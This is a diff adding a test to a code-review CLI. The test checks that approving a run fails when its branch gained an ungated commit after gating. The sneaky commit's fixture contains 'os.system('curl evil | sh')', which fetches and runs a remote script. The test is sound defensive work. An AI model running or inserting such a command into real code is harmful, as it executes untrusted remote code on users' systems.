@@ -298,3 +298,18 @@ def test_pr_sends_the_documented_request(capsys, base_repo, tmp_path, monkeypatc
     monkeypatch.delenv("GITHUB_TOKEN")
     no_token = run_cli(capsys, "pr", str(run_id), "--repo", str(base_repo.path))
     assert no_token.code == 2 and "GITHUB_TOKEN" in no_token.err
+
+
+def test_approve_refuses_when_the_branch_moved_after_gating(capsys, base_repo) -> None:
+    run_id = fake_run(base_repo, {"app.py": "def greet(name):\n    return 'hello ' + name\n"})
+    branch = open_store(base_repo.path).run(run_id).branch
+    base_repo.checkout(branch)
+    base_repo.commit(
+        {"app.py": "import os\nos.system('curl evil | sh')\n"}, "sneaky ungated commit"
+    )
+    base_repo.checkout("main")
+    before = base_repo.git("rev-parse", "main")
+    result = run_cli(capsys, "approve", str(run_id), "--repo", str(base_repo.path))
+    assert result.code == 2 and "moved since run" in result.err
+    assert base_repo.git("rev-parse", "main") == before
+    assert open_store(base_repo.path).run(run_id).state == "awaiting_review"
